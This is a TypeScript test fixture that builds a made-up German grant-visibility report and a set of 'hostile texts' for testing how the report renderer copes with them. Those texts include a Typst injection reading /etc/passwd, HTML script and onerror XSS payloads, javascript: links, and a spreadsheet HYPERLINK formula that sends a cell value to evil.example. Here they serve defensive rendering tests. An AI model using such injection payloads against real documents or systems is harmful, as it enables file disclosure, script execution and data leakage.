import type { Block, ReportDocument, Section } from '../../src/modules/reports/visibility/report-document.js';
import { figures } from './sample-report-figures.js';
import {
  chart,
  column,
  districtTable,
  germanDay,
  highlights,
  map,
  mentionTable,
  monthTable,
  outletTable,
  releases,
  releaseTable,
  scopeTable,
  table,
  targetTable,
  textCell,
} from './sample-report-tables.js';

/** A made-up report with every kind of block in it: three campaigns, twelve releases, as many mentions as wanted. No names of people, no real outlets. */
export function sampleReport({
  mentions = 600,
  language = 'de',
}: { mentions?: number; language?: 'de' | 'en' } = {}): ReportDocument {
  return {
    language,
    title: 'Ankommen mit der Stadtwerkstatt: Sichtbarkeit 2026',
    cover: {
      kind: 'Sichtbarkeitsbericht',
      organisation: 'Stadtwerkstatt gGmbH',
      subtitle: 'Bericht zum Verwendungsnachweis der Förderung „Ankommen vor Ort“',
      facts: [
        { label: 'Zeitraum', text: '01.01.2026 – 30.11.2026' },
        { label: 'Stand der Daten', text: '30.11.2026, 14:07' },
        { label: 'Kampagnen', text: 'Start in vier Kreisen, Sommer der Begegnung, Werkstatt wird mobil' },
        { label: 'Fassung', text: '1, Zählregeln 3' },
      ],
      funders: [
        {
          name: 'Beispielministerium für Zusammenhalt',
          grant: 'Ankommen vor Ort',
          reference: 'FKZ 01-2026-417',
          statement:
            'Gefördert vom Beispielministerium für Zusammenhalt aufgrund eines Beschlusses des Landtags.',
          logo: {
            fileId: 'funder-one',
            sha256: 'a'.repeat(64),
            alt: 'Logo Beispielministerium für Zusammenhalt',
          },
        },
        {
          name: 'Stiftung Nachbarschaft',
          grant: 'Werkstatt wird mobil',
          reference: 'SN-88/26',
          statement: 'Mit freundlicher Unterstützung der Stiftung Nachbarschaft.',
          logo: null,
        },
      ],
    },
    sections: [
      section('summary', '1', 'Zusammenfassung', [
        paragraph(
          'Über die drei Kampagnen erschienen im Zeitraum 600 Platzierungen in 48 Medien; sie bilden 214 Geschichten. In 17 der 20 Zielkreise war mindestens ein Bericht zu lesen.',
        ),
        {
          kind: 'figures',
          keys: ['placements', 'stories', 'outlets', 'target-districts', 'local-share', 'statement-rate'],
        },
        {
          kind: 'markdown',
          text: '## Was uns wichtig war\n\nWir wollten **vor Ort** sichtbar werden, wo Menschen ankommen – nicht möglichst laut, sondern *verlässlich*:\n\n- in der Lokalzeitung, die die Nachbarschaft liest,\n- im Amtsblatt der Gemeinden,\n- in den Sendungen der Bürgerradios.\n\nMehr steht auf der [Seite der Werkstatt](https://stadtwerkstatt.example/presse).',
        },
        note(
          'Die Zahlen sagen, was erschienen und gefunden ist. Sie sagen nicht, wie viele Menschen es gelesen haben, und nicht, was daraus wurde.',
        ),
      ]),
      section('targets', '2', 'Ziele und Ergebnisse', [
        paragraph(
          'Die Zielwerte stehen im Zuwendungsbescheid; sie wurden vor Beginn des Zeitraums eingetragen.',
        ),
        targetTable(),
      ]),
      section('activities', '3', 'Maßnahmen', [
        paragraph(
          'Zwölf Mitteilungen gingen an die Presse. Der Förderhinweis stand in allen, die ihn brauchen.',
        ),
        { kind: 'figures', keys: ['own-releases', 'pick-up-rate', 'reaction-time'] },
        releaseTable(),
      ]),
      section('coverage', '4', 'Berichterstattung', [
        { kind: 'heading', text: 'Nach Verbreitung' },
        scopeTable(mentions),
        { kind: 'heading', text: 'Wie wir davon erfuhren' },
        paragraph(
          'Drei von vier Platzierungen fanden die Feeds der Medien; der Rest wurde von Hand eingetragen, vor allem aus gedruckten Zeitungen.',
        ),
        { kind: 'figures', keys: ['feed-coverage'] },
      ]),
      section('timeline', '5', 'Zeitlicher Verlauf', [
        chart(),
        monthTable(),
        note(
          'Schraffiert: Monate, in denen nicht alle Medien beobachtet wurden. Dort kann mehr erschienen sein.',
        ),
      ]),
      section('outlets', '6', 'Medien', [outletTable()]),
      section('reach', '7', 'Verbreitung', [
        paragraph(
          'Auflagen sind Angaben der Verlage. Sie werden je Kanal gezeigt und nie zu einer Reichweite addiert.',
        ),
        { kind: 'figures', keys: ['gross-copies', 'visits', 'districts'] },
      ]),
      section('districts', '8', 'Kreise', [map(), districtTable()]),
      section('content', '9', 'Inhalte', [
        { kind: 'figures', keys: ['funder-named-rate', 'initiated-rate', 'key-message-rate'] },
        note('Grundlage sind die 42 Beiträge, die von Hand gelesen und eingeordnet wurden.'),
      ]),
      section('highlights', '10', 'Beispiele', [highlights()]),
      section('effects', '11', 'Wirkung und Anfragen', [
        { kind: 'figures', keys: ['enquiries'] },
        {
          kind: 'markdown',
          text: 'Die Anfragen kamen aus **sieben Gemeinden**. Vier nannten einen Bericht als Anlass; das ist eine Auskunft, kein Nachweis.',
        },
      ]),
      section('lessons', '12', 'Erkenntnisse und Ausblick', [
        {
          kind: 'markdown',
          text: '1. Bilder aus der Werkstatt wurden öfter übernommen als gestellte.\n2. Amtsblätter brauchen zwei Wochen Vorlauf.\n\n> „Wir drucken gern, was vor unserer Tür geschieht“, schrieb eine Redaktion.\n\n### Was wir ändern\n\nNächstes Jahr schicken wir je Kreis eine eigene Fassung.',
        },
      ]),
      section('methods', '13', 'Methode und Grenzen', [
        paragraph(
          'Gezählt wird nach den Zählregeln 3. Eine Platzierung ist ein Beitrag in einem Medium; dieselbe Meldung in zwei Ausgaben sind zwei Platzierungen und eine Geschichte.',
        ),
        note(
          'Gedruckte Zeitungen, Radio und Fernsehen erscheinen selten in Feeds. Was niemand eintrug, fehlt.',
        ),
      ]),
      section('annex-mentions', 'A', 'Alle Erwähnungen', [mentionTable(mentions)], true),
      section(
        'annex-releases',
        'B',
        'Mitteilungen im Wortlaut der Überschriften',
        [
          {
            kind: 'markdown',
            text: releases.map(({ title, day }) => `- ${germanDay(day)}: ${title}`).join('\n'),
          },
        ],
        true,
      ),
      section(
        'annex-vouchers',
        'C',
        'Belege',
        [
          {
            ...table(
              'vouchers',
              'Verzeichnis der Belege',
              null,
              [column('voucher', 'Beleg', 3), column('place', 'Liegt', 2)],
              [],
            ),
            empty: 'Für diesen Bericht wurden keine Belege ausgewählt.',
          },
        ],
        true,
      ),
      section(
        'annex-definitions',
        'D',
        'Begriffe',
        [
          {
            kind: 'definitions',
            items: [
              {
                term: 'Platzierung',
                text: 'Ein Beitrag in einem Medium, auch wenn derselbe Text in mehreren steht.',
              },
              { term: 'Geschichte', text: 'Alle Platzierungen über denselben Anlass.' },
              { term: 'Zielkreis', text: 'Ein Kreis, den eine Kampagne erreichen wollte.' },
              {
                term: 'Beobachtbar',
                text: 'Mindestens ein Medium, das dort erscheint, wurde im Zeitraum beobachtet.',
              },
              {
                term: 'Förderhinweis',
                text: 'Der Satz, den der Zuwendungsbescheid für Veröffentlichungen verlangt.',
              },
            ],
          },
        ],
        true,
      ),
    ],
    figures: figures(mentions),
  };
}

/** Texts that a rendering may trip over, by what they try. They must be read as they are (what no font has, aside). */
export const hostileTexts: Record<string, string> = {
  typst:
    '#set page(width: 1cm) #image("/etc/passwd") $x^2$ <label> @ref *fett* _kursiv_ // weg #eval("1+1") `code`',
  html: '<script>alert(1)</script><img src=x onerror=alert(1)> &lt;b&gt; &amp; "zitiert" \'einfach\'',
  formula: '=HYPERLINK("https://evil.example?"&A1;"klick")',
  tab: '\t=1+1',
  rightToLeft: 'Bericht \u202eתירבע\u202c und العربية in einer Zeile',
  emoji: 'Feier \u{1F389}\ufe0f mit \u{1F468}\u200d\u{1F469}\u200d\u{1F467} und 漢字',
  endless: 'Donaudampfschifffahrt'.repeat(24).slice(0, 500),
  control: 'Glocke \u0007 und Null \u0000 und halb \ud800',
  markdown: '**nicht fett** [kein Link](javascript:alert(1)) ![Bild](https://evil.example/x.png)',
};

/** The sample with each hostile text wherever a text can stand. */
export function hostileReport(text: string): ReportDocument {
  const report = sampleReport({ mentions: 3 });
  const rows = [{ cells: [textCell(text), textCell(text, 'javascript:alert(1)')], embargoUntil: null }];
  return {
    ...report,
    title: text,
    cover: {
      ...report.cover,
      kind: text,
      organisation: text,
      subtitle: text,
      facts: [{ label: text, text }],
      funders: [
        {
          name: text,
          grant: text,
          reference: text,
          statement: text,
          logo: { fileId: 'none', sha256: 'b'.repeat(64), alt: text },
        },
      ],
    },
    figures: [
      {
        ...report.figures[0]!,
        label: text,
        text,
        basis: text,
        source: text,
        rule: text,
        limits: text,
        unitText: text,
      },
    ],
    sections: [
      section('summary', '1', text, [
        paragraph(text),
        note(text),
        { kind: 'heading', text },
        { kind: 'markdown', text },
        { kind: 'figures', keys: ['placements'] },
        {
          ...table('mentions', text, 'mentions', [column('a', text, 1), column('b', text, 1)], []),
          rows,
          note: text,
        },
        { ...chart(), title: text, alt: text, series: [{ key: 'local', name: text, fill: 'local' }] },
        { ...map(), title: text, alt: text },
        {
          kind: 'highlights',
          items: [
            {
              day: '2026-03-01',
              dayText: text,
              outlet: text,
              scopeText: text,
              headline: text,
              url: text,
              summary: text,
              quote: text,
              quoteNote: text,
            },
          ],
        },
        { kind: 'definitions', items: [{ term: text, text }] },
      ]),
    ],
  };
}

function section(
  key: Section['key'],
  number: string,
  title: string,
  blocks: Block[],
  annex = false,
): Section {
  return { key, number, title, annex, blocks };
}
const paragraph = (text: string): Block => ({ kind: 'paragraph', text });
const note = (text: string): Block => ({ kind: 'note', text });
